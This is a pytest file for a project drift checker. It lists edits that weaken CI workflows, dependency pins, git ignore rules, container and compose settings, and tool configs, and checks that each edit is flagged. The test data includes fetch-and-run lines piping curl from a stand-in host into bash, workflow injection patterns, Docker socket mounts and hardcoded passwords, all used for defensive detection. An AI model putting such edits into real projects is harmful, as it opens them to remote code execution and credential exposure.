"""What weakens the other files of a fresh project, and what means nothing."""

from __future__ import annotations

import pytest

from scaffold.drift.facts import surface_of
from scaffold.drift.project import read
from scaffold.drift.trees import Entry, Files

from .states import CI, blocking, edited, found, fresh, replaced, surface

Edit = dict[str, str | None]
HASH = f"--hash=sha256:{'a' * 64}"
CHECKOUT = "actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2"
TESTS = "      - run: make test\n"
PERMITTED = "permissions:\n  contents: read\n"
ADDED = "on: pull_request\npermissions: {contents: read}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
USES = "      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\n        with: {persist-credentials: false}\n"
MORE = ".github/workflows/more.yml"
PIN = "requirements-scaffold.txt"
LOCK = fresh()["requirements.txt"]


def with_pin(*lines: str) -> dict[str, str]:
    """A fresh project whose generator is pinned."""
    return {**fresh(), PIN: "# The generator.\n" + "\n".join(lines) + "\n"}


def block(name: str) -> str:
    """The lines of a package in requirements.txt."""
    start = LOCK.index(f"\n{name}==") + 1
    end = LOCK.find("\n", start)
    while LOCK[end + 1 : end + 2] == " ":
        end = LOCK.find("\n", end + 1)
    return LOCK[start : end + 1]


JOSERFC = block("joserfc")
VERSION = JOSERFC.split("==")[1].split()[0]
WORKFLOWS: list[tuple[str, Edit, str]] = [
    ("write-all", replaced(CI, (PERMITTED, "permissions: write-all\n")), "SCF616"),
    ("contents", replaced(CI, (PERMITTED, "permissions: {contents: write}\n")), "SCF616"),
    ("nothing is said", replaced(CI, (PERMITTED, "")), "SCF616"),
    ("of a job", replaced(CI, ("    timeout-minutes: 20", "    permissions: {id-token: write}\n    timeout-minutes: 20")), "SCF616"),
    ("comments with a checkout", {MORE: ADDED.replace("contents: read", "pull-requests: write") + USES}, "SCF616"),
    ("target", {MORE: ADDED.replace("pull_request", "pull_request_target")}, "SCF617"),
    ("target with the head", {MORE: ADDED.replace("pull_request", "pull_request_target") + USES.replace("false}", "false, ref: '${{ github.event.pull_request.head.sha }}'}")}, "SCF617"),
    ("a comment with the head", {MORE: ADDED.replace("pull_request", "issue_comment") + "      - run: gh pr checkout 7\n"}, "SCF617"),
    ("a tag", replaced(CI, (CHECKOUT, "actions/checkout@v4")), "SCF618"),
    ("a branch", replaced(CI, (TESTS, f"{TESTS}      - uses: somebody/action@main\n")), "SCF618"),
    ("a short commit", replaced(CI, (CHECKOUT, "actions/checkout@11bd719")), "SCF618"),
    ("a container", replaced(CI, ("    timeout-minutes: 20", "    container: python:3.13\n    timeout-minutes: 20")), "SCF618"),
    ("a workflow of others", {MORE: "on: push\njobs: {a: {uses: x/y/.github/workflows/z.yml@v1}}\n"}, "SCF618"),
    ("self-hosted", replaced(CI, ("runs-on: ubuntu-latest\n    timeout-minutes: 20", "runs-on: self-hosted\n    timeout-minutes: 20")), "SCF620"),
    ("a group", replaced(CI, ("runs-on: ubuntu-latest\n    timeout-minutes: 20", "runs-on: {group: ours}\n    timeout-minutes: 20")), "SCF620"),
    ("a secret", replaced(CI, (TESTS, f"{TESTS}        env: {{KEY: '${{{{ secrets.KEY }}}}'}}\n")), "SCF621"),
    ("all secrets", replaced(CI, (TESTS, f"{TESTS}        env: {{KEY: '${{{{ toJSON(secrets) }}}}'}}\n")), "SCF621"),
    ("inherited secrets", {MORE: "on: pull_request\npermissions: {}\njobs: {a: {uses: './.github/workflows/ci.yml', secrets: inherit}}\n"}, "SCF621"),
    ("a title", replaced(CI, (TESTS, f"{TESTS}      - run: echo '${{{{ github.event.pull_request.title }}}}'\n")), "SCF622"),
    ("a branch name", replaced(CI, (TESTS, f"{TESTS}      - run: echo ${{{{github.head_ref}}}}\n")), "SCF622"),
    ("credentials", replaced(CI, ("persist-credentials: false, ", "")), "SCF623"),
    ("curl | sh", replaced(CI, (TESTS, f"{TESTS}      - run: curl -s https://x.example/i | sudo bash\n")), "SCF624"),
    ("sh -c $(curl)", replaced(CI, (TESTS, f'{TESTS}      - run: sh -c "$(curl -s https://x.example/i)"\n')), "SCF624"),
    ("bash <(curl)", replaced(CI, (TESTS, f"{TESTS}      - run: bash <(curl -s https://x.example/i)\n")), "SCF624"),
    ("a key twice", replaced(CI, (PERMITTED, PERMITTED * 2)), "SCF649"),
]  # fmt: skip
REQUIREMENTS: list[tuple[str, Edit, str]] = [
    ("an index", {"requirements.txt": f"--index-url https://u:p@x.example/simple\n{LOCK}"}, "SCF625"),
    ("find-links", {"requirements.txt": f"-f wheels\n{LOCK}"}, "SCF625"),
    ("a trusted host", {"requirements.txt": f"--trusted-host x.example\n{LOCK}"}, "SCF625"),
    ("pip.conf", {"pip.conf": "[global]\nindex-url = https://x.example\n"}, "SCF625"),
    (".npmrc", {"identity/.npmrc": "registry=https://x.example\n"}, "SCF625"),
    ("a variable of CI", replaced(CI, ("    timeout-minutes: 20", "    env: {PIP_EXTRA_INDEX_URL: 'https://x.example'}\n    timeout-minutes: 20")), "SCF625"),
    ("a variable of the Makefile", {"Makefile": f"export PIP_INDEX_URL = https://x.example\n{fresh()['Makefile']}"}, "SCF625"),
    ("a variable of the image", replaced("Dockerfile", ("COPY requirements.txt /", "ENV UV_INDEX_URL=https://x.example\nCOPY requirements.txt /")), "SCF625"),
    ("an option of the image", replaced("Dockerfile", ("--require-hashes -r", "--require-hashes -i https://x.example -r")), "SCF625"),
    ("uv", {"pyproject.toml": fresh()["pyproject.toml"] + '[[tool.uv.index]]\nurl = "https://x.example"\n'}, "SCF625"),
    ("no digests", {"requirements.txt": LOCK.replace(JOSERFC, f"joserfc=={VERSION}\n")}, "SCF626"),
    ("a range", {"requirements.txt": LOCK.replace(JOSERFC, "joserfc>=1\n")}, "SCF626"),
    ("not pinned", {"requirements.txt": LOCK.replace(JOSERFC, "joserfc\n")}, "SCF626"),
    ("a wildcard", {"requirements.txt": LOCK.replace(JOSERFC, f"joserfc==1.* {HASH}\n")}, "SCF626"),
    ("a URL", {"requirements.txt": LOCK.replace(JOSERFC, f"joserfc @ https://x.example/j.whl {HASH}\n")}, "SCF626"),
    ("a repository", {"requirements.txt": LOCK.replace(JOSERFC, "git+https://x.example/j@main#egg=joserfc\n")}, "SCF626"),
    ("a directory", {"requirements-dev.txt": fresh()["requirements-dev.txt"] + "-e ./tools\n"}, "SCF626"),
    ("an earlier version", {"requirements.txt": LOCK.replace(f"joserfc=={VERSION}", "joserfc==0.9.0")}, "SCF627"),
    ("a pre-release of it", {"requirements.txt": LOCK.replace(f"joserfc=={VERSION}", f"joserfc=={VERSION}rc1")}, "SCF627"),
    ("other files", {"requirements.txt": LOCK.replace(JOSERFC, f"joserfc=={VERSION} {HASH}\n")}, "SCF627"),
    ("swapped", {"requirements.txt": LOCK.replace(JOSERFC, f"python-jose==3.3.0 {HASH}\n")}, "SCF628"),
    ("the file is gone", {"requirements.txt": None}, "SCF628"),
    ("no lower bound", replaced("pyproject.toml", ('"joserfc>=1.8,<2"', '"joserfc"')), "SCF630"),
    ("from a URL", replaced("pyproject.toml", ('"joserfc>=1.8,<2"', '"joserfc @ https://x.example/j.whl"')), "SCF630"),
    ("no digests asked for in the image", replaced("Dockerfile", ("--require-hashes ", "")), "SCF632"),
    ("another package in the image", replaced("Dockerfile", ("-r /requirements.txt", "-r /requirements.txt && pip install debugpy")), "SCF632"),
    ("no digests asked for in setup", replaced("Makefile", ("--require-hashes -r requirements-dev.txt", "-r requirements-dev.txt")), "SCF632"),
]  # fmt: skip
PINS = [
    (f"scaffold==0.2.0 {HASH}", f"scaffold==0.1.9 {HASH}"),
    (f"scaffold==0.2.0 {HASH}", "scaffold==0.2.0"),
    (f"scaffold==0.2.0 {HASH}", "scaffold"),
    (f"scaffold==0.2.0 {HASH}", f"scaffold==0.2.0 --hash=sha256:{'b' * 64}"),
    (f"scaffold==0.2.0 {HASH}", "scaffold @ git+https://x.example/scaffold@" + "c" * 40),
    (f"scaffold==0.2.0 {HASH}", f"--extra-index-url https://x.example\nscaffold==0.2.0 {HASH}"),
    (f"scaffold==0.2.0 {HASH}", "./vendor/scaffold"),
    (f"scaffold==0.2.0 {HASH}", ""),
    ("scaffold @ git+https://x.example/s@" + "c" * 40, "scaffold @ git+https://x.example/s@main"),
    ("scaffold @ git+https://x.example/s@" + "c" * 40, "scaffold @ git+https://y.example/s@" + "c" * 40),
    ("scaffold @ git+https://x.example/s@" + "c" * 40, "scaffold @ git+https://x.example/s@" + "d" * 40),
]  # fmt: skip
GIT: list[tuple[str, Edit, str]] = [
    ("hooks", {".gitignore": fresh()[".gitignore"] + "hooks/*.py\n"}, "SCF634"),
    *(
        (pattern, {".gitignore": f"{fresh()['.gitignore']}{pattern}\n"}, "SCF634")
        for pattern in (
            *("hooks/local_*.py", "local_*.py", "*.[p]y", "*.p?", "hooks/private/", "**/local.py"),
            *("*/local.py", "h*/x*.py", "secret*", "tests/unit/", "/hooks/l*", "hooks/**/x"),
            *("notes/store/migrations/00*", "hooks/*.sql", "hooks/x*.py\n!hooks/xyz.py"),
        )
    ),
    ("in the directory of hooks", {"hooks/.gitignore": "local_*.py\n"}, "SCF634"),
    (
        "a module that is imported",
        {"hooks/a.py": "from hooks.build.letters import dear\n"},
        "SCF634",
    ),
    ("one beside it", {"hooks/a.py": "from . import (build,\n  x)\n"}, "SCF634"),
    ("everything", {".gitignore": "*\n!README.md\n"}, "SCF634"),
    ("migrations", {".gitignore": fresh()[".gitignore"] + "*.sql\n"}, "SCF634"),
    ("the package", {".gitignore": fresh()[".gitignore"] + "/notes/\n"}, "SCF634"),
    ("in a directory of its own", {"tests/.gitignore": "*\n"}, "SCF634"),
    ("approvals", {".gitignore": fresh()[".gitignore"] + ".scaffold/\n"}, "SCF634"),
    (".env", replaced(".gitignore", (".env\n", "")), "SCF635"),
    (".env comes back", {".gitignore": fresh()[".gitignore"] + "!.env\n"}, "SCF635"),
    ("generated", {".gitattributes": fresh()[".gitattributes"] + "hooks/** linguist-generated=true\n"}, "SCF636"),
    ("binary", {".gitattributes": fresh()[".gitattributes"] + "*.py binary\n"}, "SCF636"),
    ("-diff", {".gitattributes": fresh()[".gitattributes"] + "scaffold.yaml -diff\n"}, "SCF636"),
    ("a macro", {".gitattributes": "[attr]quiet -diff\n" + fresh()[".gitattributes"] + "*.yml quiet\n"}, "SCF636"),
    ("ours", replaced(".gitattributes", ("/scaffold.lock merge=scaffold", "/scaffold.lock merge=ours")), "SCF636"),
    ("a filter", {"hooks/.gitattributes": "* filter=nice\n"}, "SCF636"),
    ("the context", {".dockerignore": "*.md\n"}, "SCF637"),
    ("the context is all", replaced(".dockerignore", ("*\n!requirements", "!requirements")), "SCF637"),
    ("development", replaced(".dockerignore", ("notes/development\n", "")), "SCF637"),
    ("an environment", {".venv-scaffold/ready": ""}, "SCF647"),
]  # fmt: skip
DEPLOYED: list[tuple[str, Edit, str]] = [
    ("no user", replaced("Dockerfile", ("USER 10001:10001\n", "")), "SCF638"),
    ("root", {"Dockerfile": fresh()["Dockerfile"] + "USER 0\n"}, "SCF638"),
    ("another image", replaced("Dockerfile", ("FROM python:3.13-slim\n", "FROM x.example/python:3.13\n")), "SCF639"),
    ("proxies", replaced("Dockerfile", ('"--no-proxy-headers", ', '"--proxy-headers", "--forwarded-allow-ips=*", ')), "SCF640"),
    ("headers by default", replaced("Dockerfile", ('"--no-proxy-headers", ', "")), "SCF640"),
    ("another connection", replaced("Dockerfile", ('"--http", "notes.server:Connection", ', "")), "SCF640"),
    ("another application", replaced("Dockerfile", ('"asgi:app"', '"debug:app"')), "SCF640"),
    ("another server", replaced("Dockerfile", ('CMD ["uvicorn"', 'CMD ["gunicorn"')), "SCF640"),
    ("an entry point", replaced("Dockerfile", ("EXPOSE 8000", 'EXPOSE 8000\nENTRYPOINT ["python", "wrap.py"]')), "SCF640"),
    ("a command of compose", replaced("compose.yaml", ("  service:\n    <<: *service\n", "  service:\n    <<: *service\n    command: uvicorn asgi:app\n")), "SCF640"),
    ("development", replaced("compose.yaml", ("ENVIRONMENT: production", "ENVIRONMENT: development")), "SCF641"),
    ("development in the image", {"Dockerfile": fresh()["Dockerfile"] + "ENV ENVIRONMENT development\n"}, "SCF641"),
    ("any host", replaced("compose.yaml", ("${ALLOWED_HOSTS:-localhost:8000}", "${ALLOWED_HOSTS:-*}")), "SCF641"),
    ("any proxy", replaced("compose.yaml", ("${TRUSTED_PROXIES:-}", "${TRUSTED_PROXIES:-0.0.0.0/0}")), "SCF641"),
    ("the owner", replaced("compose.yaml", ("notes_app:${APP_PASSWORD:?}", "notes_owner:${APP_PASSWORD:?}")), "SCF641"),
    ("sslmode", replaced("compose.yaml", ("@/notes?host=/run/database\n      REDIS", "@db.example/notes?sslmode=require\n      REDIS")), "SCF641"),
    ("code on the path", {"Dockerfile": fresh()["Dockerfile"] + "ENV PYTHONPATH=/data\n"}, "SCF641"),
    ("a manifest", {"deploy/service.yaml": "kind: Deployment\nspec: {containers: [{env: [{name: ALLOWED_HOSTS, value: '*'}]}]}\n"}, "SCF641"),
    ("a password", replaced("compose.yaml", ("${POSTGRES_PASSWORD:?}", "hunter2")), "SCF642"),
    ("a password by default", replaced("compose.yaml", ("${POSTGRES_PASSWORD:?}", "${POSTGRES_PASSWORD:-hunter2}")), "SCF642"),
    ("a key in the image", {"Dockerfile": fresh()["Dockerfile"] + "ENV PSEUDONYM_KEY=0123456789abcdef\n"}, "SCF642"),
    (".env", {".env": "APP_PASSWORD=x7\n"}, "SCF642"),
    ("a password in a URL", {"compose.prod.yaml": "services: {a: {image: x, environment: [DATABASE_URL=postgresql://a:hunter2@/a]}}\n"}, "SCF642"),
    ("privileged", replaced("compose.yaml", ("  build: .\n", "  build: .\n  privileged: true\n")), "SCF643"),
    ("the socket", replaced("compose.yaml", ('"limits:/run/limits:ro"]', '"/var/run/docker.sock:/s"]')), "SCF643"),
    ("capabilities", replaced("compose.yaml", ("  build: .\n", "  build: .\n  cap_add: [NET_ADMIN]\n")), "SCF643"),
    ("files are written", replaced("compose.yaml", ("  read_only: true\n", "")), "SCF644"),
    ("the port of the service", replaced("compose.yaml", ("127.0.0.1:8000:8000", "8000:8000")), "SCF645"),
    ("the port of the database", replaced("compose.yaml", ("    image: postgres:18\n", "    image: postgres:18\n    ports: ['5432:5432']\n")), "SCF645"),
    ("a long port", replaced("compose.yaml", ("    image: postgres:18\n", "    image: postgres:18\n    ports: [{target: 5432, published: 5432}]\n")), "SCF645"),
    ("the database listens", replaced("compose.yaml", ("listen_addresses=localhost", "listen_addresses=*")), "SCF648"),
    ("trust", replaced("compose.yaml", ("--auth-local=scram-sha-256", "--auth-local=trust")), "SCF648"),
]  # fmt: skip
TOOLS: list[tuple[str, Edit, str]] = [
    ("-k", replaced("pyproject.toml", ('addopts = "-q"', "addopts = \"-q -k 'not isolation'\"")), "SCF613"),
    ("-m in a list", replaced("pyproject.toml", ('addopts = "-q"', 'addopts = ["-q", "-m", "fast"]')), "SCF613"),
    ("deselected", replaced("pyproject.toml", ('addopts = "-q"', 'addopts = "--deselect=tests/contract/test_access.py"')), "SCF613"),
    ("a plugin", replaced("pyproject.toml", ('addopts = "-q"', 'addopts = "-p hooks.quiet"')), "SCF613"),
    ("testpaths", replaced("pyproject.toml", ('testpaths = ["tests"]', 'testpaths = ["tests/unit"]')), "SCF613"),
    ("names of files", replaced("pyproject.toml", ('testpaths = ["tests"]', 'testpaths = ["tests"]\npython_files = ["test_service.py"]')), "SCF613"),
    ("names of functions", replaced("pyproject.toml", ('testpaths = ["tests"]', 'testpaths = ["tests"]\npython_functions = "check_*"')), "SCF613"),
    ("no recursion", replaced("pyproject.toml", ('testpaths = ["tests"]', 'testpaths = ["tests"]\nnorecursedirs = ["contr*"]')), "SCF613"),
    ("a path before", replaced("pyproject.toml", ('pythonpath = ["."]', 'pythonpath = ["shims", "."]')), "SCF613"),
    ("pytest.ini comes first", {"pytest.ini": "[pytest]\naddopts = --co\n"}, "SCF613"),
    ("errors ignored", replaced("pyproject.toml", ("[tool.mypy]\n", "[tool.mypy]\nignore_errors = true\n")), "SCF614"),
    ("hooks left out", replaced("pyproject.toml", ('files = ["notes", "hooks", "tests", "asgi.py"]', 'files = ["notes", "tests", "asgi.py"]')), "SCF614"),
    ("an override", {"pyproject.toml": fresh()["pyproject.toml"] + '\n[[tool.mypy.overrides]]\nmodule = "hooks.*"\nignore_errors = true\n'}, "SCF614"),
    ("mypy.ini comes first", {"mypy.ini": "[mypy]\nstrict = false\n"}, "SCF614"),
    ("S is not selected", replaced("pyproject.toml", ('"RUF", "S"]', '"RUF"]')), "SCF615"),
    ("S ignored for hooks", replaced("pyproject.toml", ('"tests/*" =', '"hooks/*" = ["S"]\n"tests/*" =')), "SCF615"),
    ("hooks excluded", replaced("pyproject.toml", ("[tool.ruff]\n", '[tool.ruff]\nextend-exclude = ["hooks"]\n')), "SCF615"),
    ("ruff.toml comes first", {"ruff.toml": "line-length = 100\n"}, "SCF615"),
    ("no TOML", {"pyproject.toml": "[[["}, "SCF649"),
]  # fmt: skip
NOTHING: list[tuple[str, Edit]] = [
    ("a raised action", replaced(CI, (CHECKOUT, "actions/checkout@08eba0b27e820071cde6df949e0beb9ba4906955 # v4.3.0"))),
    ("a pinned action more", replaced(CI, (TESTS, f"{TESTS}      - uses: codecov/codecov-action@{'a' * 40} # v5\n"))),
    ("permissions narrowed", replaced(CI, (PERMITTED, "permissions: {}\n"))),
    ("permissions of the job", replaced(CI, (PERMITTED, ""), ("    timeout-minutes: 20", "    permissions: {contents: read}\n    timeout-minutes: 20"))),
    ("a release on tags", {MORE: f"on: {{push: {{tags: ['v*']}}}}\npermissions: {{contents: write}}\njobs:\n  a:\n    runs-on: [self-hosted]\n    steps:\n{USES}      - run: make release\n        env: {{KEY: '${{{{ secrets.KEY }}}}'}}\n"}),
    ("a job with a default checkout", {MORE: f"{ADDED}      - uses: {CHECKOUT}\n      - run: make docs\n"}),
    ("a raised package", {"requirements.txt": LOCK.replace(JOSERFC, f"joserfc==1.99.0 {HASH}\n")}),
    ("another digest more", {"requirements.txt": LOCK.replace(JOSERFC, JOSERFC.rstrip() + f" \\\n    {HASH}\n")}),
    ("a package more", {"requirements.txt": f"{LOCK}stripe==12.0.0 {HASH}\n", **replaced("pyproject.toml", ('    "joserfc', '    "stripe>=12,<13",\n    "joserfc'))}),
    ("a package less", {"requirements.txt": LOCK.replace(block("idna"), "")}),
    ("comments of pip-compile", {"requirements.txt": LOCK.replace("\njoserfc==", "\n# via\njoserfc==")}),
    ("an upper bound", replaced("pyproject.toml", ('"joserfc>=1.8,<2"', '"joserfc>=1.8,<3"'))),
    ("order of requirements", {"requirements.txt": JOSERFC + LOCK.replace(JOSERFC, "")}),
    ("owners named", {".github/CODEOWNERS": fresh()[".github/CODEOWNERS"].replace("@your-organization/security", "@acme/security")}),
    ("ignored caches", {".gitignore": fresh()[".gitignore"] + ".idea/\nnode_modules/\n*.log\n"}),
    *(
        (pattern, {".gitignore": f"{fresh()['.gitignore']}{pattern}\n"})
        for pattern in (
            *("__pycache__/", "*.pyc", "*.py[cod]", ".venv/", ".env", ".env*", "*.log", "reports/"),
            *("*.swp", "*~", ".DS_Store", "*.egg-info/", "htmlcov", ".coverage*", "/work/"),
            *("docs/*.py", "/dump.sql", "hooks/x*.py\n!hooks/x*.py"),
        )
    ),
    ("a nested ignore file", {"docs/.gitignore": "*\n"}),
    ("attributes of pictures", {".gitattributes": fresh()[".gitattributes"] + "*.png binary\ndocs/** linguist-documentation\n"}),
    ("another port of the image", replaced("Dockerfile", ('"--port", "8000"', '"--port", "9000"'))),
    ("a stage more", {"Dockerfile": "FROM python:3.13-slim AS tools\nUSER root\nRUN id\n" + fresh()["Dockerfile"]}),
    ("a version of the image", {"Dockerfile": fresh()["Dockerfile"].replace("3.13-slim", "3.14-slim")}),
    ("a patch of the database", replaced("compose.yaml", ("postgres:18", "postgres:18.4"))),
    ("an override for development", {"compose.override.yaml": "services: {service: {environment: {ENVIRONMENT: development, ALLOWED_HOSTS: '*'}, ports: ['8000:8000']}}\n"}),
    ("a development image", {"Dockerfile.dev": "FROM ubuntu\nENV ENVIRONMENT=development\n"}),
    ("a proxy", {"compose.yaml": fresh()["compose.yaml"].replace("  database:\n    image", "  proxy:\n    image: caddy:2\n    ports: ['443:443', '80:80']\n\n  database:\n    image")}),
    ("hosts named", replaced("compose.yaml", ("${ALLOWED_HOSTS:-localhost:8000}", "${ALLOWED_HOSTS:?}"))),
    ("options of pytest", replaced("pyproject.toml", ('addopts = "-q"', 'addopts = "-q -ra --strict-markers --durations=5 -n auto"'))),
    ("xfail_strict", replaced("pyproject.toml", ('addopts = "-q"', 'addopts = "-q"\nxfail_strict = true'))),
    ("types of a package", {"pyproject.toml": fresh()["pyproject.toml"] + '\n[[tool.mypy.overrides]]\nmodule = "stripe"\nignore_missing_imports = true\n'}),
    ("more of ruff", replaced("pyproject.toml", ('"RUF", "S"]', '"RUF", "S", "PL"]'), ('ignore = ["E501"]', 'ignore = ["E501", "PLR0913"]'))),
    ("order of keys", replaced("pyproject.toml", ('testpaths = ["tests"]\npythonpath = ["."]', 'pythonpath = ["."]\ntestpaths = ["tests"]'))),
    ("more tests", {"tests/test_more.py": "def test_more() -> None:\n    assert 1\n"}),
    ("line ends", {"requirements.txt": LOCK.replace("\n", "\r\n"), ".gitignore": fresh()[".gitignore"].replace("\n", "\r\n")}),
]  # fmt: skip
ALL = [*WORKFLOWS, *REQUIREMENTS, *GIT, *DEPLOYED, *TOOLS]


@pytest.mark.parametrize(
    ("edit", "rule"), [each[1:] for each in ALL], ids=[f"{w[2]} {w[0]}" for w in ALL]
)
def test_a_weakness_is_found(edit: Edit, rule: str) -> None:
    assert rule in blocking(edit)


@pytest.mark.parametrize("edit", [each[1] for each in NOTHING], ids=[each[0] for each in NOTHING])
def test_what_means_nothing_does_not_block(edit: Edit) -> None:
    assert [
        (each.rule.id, each.key, each.old, each.now) for each in found(edit) if each.blocks
    ] == []


@pytest.mark.parametrize(("before", "after"), PINS)
def test_a_weaker_pin_of_the_generator_is_found(before: str, after: str) -> None:
    assert "SCF631" in blocking({PIN: f"{after}\n"}, with_pin(before))


@pytest.mark.parametrize(
    ("before", "after"),
    [
        (f"scaffold==0.2.0 {HASH}", f"scaffold==0.2.1 --hash=sha256:{'b' * 64}"),
        (f"scaffold==0.9.0 {HASH}", f"scaffold==0.10.0 {HASH}"),
        ("scaffold==0.2.0", f"scaffold==0.2.0 {HASH}"),
        (f"scaffold==0.2.0 {HASH}", f"# Ours.\nscaffold==0.2.0 \\\n    {HASH}"),
        (f"scaffold==0.2.0 {HASH}", f"--require-hashes\nscaffold==0.2.0 {HASH}"),
    ],
)
def test_a_raised_pin_does_not_block(before: str, after: str) -> None:
    assert blocking({PIN: f"{after}\n"}, with_pin(before)) == set()


def test_new_dependencies_and_raised_actions_are_notes() -> None:
    edit = replaced("pyproject.toml", ('    "joserfc', '    "stripe>=12",\n    "joserfc'))
    (change,) = found(edit)
    assert (change.rule.id, change.blocks, change.verdict) == ("SCF629", False, "widened")
    (change,) = found(replaced(CI, (CHECKOUT, f"actions/checkout@{'a' * 40}")))
    assert (change.rule.id, change.blocks) == ("SCF619", False)


OWNERS = "* @acme/all\n/scaffold.yaml @acme/security\n/.scaffold/ @acme/security @acme/leads\n"


@pytest.mark.parametrize(
    ("edit", "keys"),
    [
        ({".github/CODEOWNERS": None}, {"scaffold.yaml", ".scaffold/approvals.yaml"}),
        ({".github/CODEOWNERS": f"{OWNERS}*.yaml @acme/all\n"}, {"scaffold.yaml", ".scaffold/approvals.yaml"}),
        ({".github/CODEOWNERS": f"{OWNERS}/scaffold.yaml\n"}, {"scaffold.yaml"}),
        ({".github/CODEOWNERS": OWNERS.replace("@acme/leads", "@acme/leads @acme/all")}, {".scaffold/approvals.yaml"}),
        ({".github/CODEOWNERS": OWNERS.replace("/scaffold.yaml @acme/security", "/scaffold.yaml @acme/all")}, {"scaffold.yaml"}),
    ],
)  # fmt: skip
def test_owners_that_are_asked_no_more_are_found(edit: Edit, keys: set[str]) -> None:
    base = {**fresh(), ".github/CODEOWNERS": OWNERS}
    told = {each.key for each in found(edit, base) if each.blocks and each.rule.id == "SCF633"}
    assert keys <= told
    assert ("scaffold.yaml" in keys) == ("scaffold.yaml" in told)


def test_the_first_file_of_owners_counts() -> None:
    base = {**fresh(), "CODEOWNERS": OWNERS}
    del base[".github/CODEOWNERS"]
    assert "SCF633" in blocking({".github/CODEOWNERS": "# Nobody.\n"}, base)
    assert blocking({"CODEOWNERS": None, ".github/CODEOWNERS": OWNERS}, base) == set()


def test_owners_of_sections_are_asked_apart() -> None:
    text = "[Security] @acme/security\n/scaffold.yaml\n[Code]\n* @acme/all\n"
    base = {**fresh(), ".github/CODEOWNERS": text}
    told = surface(base)
    assert told["SCF633", "scaffold.yaml (Security)"].value == "@acme/security"
    assert "SCF633" in blocking({".github/CODEOWNERS": text.replace("[Sec", "^[Sec")}, base)


def test_no_secret_is_told() -> None:
    edit = replaced("compose.yaml", ("${POSTGRES_PASSWORD:?}", "hunter2"))
    edit |= {"pip.conf": "[global]\nindex-url = https://user:hunter2@x.example/simple\n"}
    told = surface(edited(fresh(), edit))
    assert not [each for each in told.values() if "hunter2" in f"{each.key} {each.value}"]


def test_a_submodule_is_found() -> None:
    class Submodule(Files):
        """Files beside which there is another repository."""

    tree = Submodule({}, "files")
    tree.entries = {"vendor": Entry("submodule")}
    assert ("SCF646", "vendor") in surface_of(read(tree, "notes"))
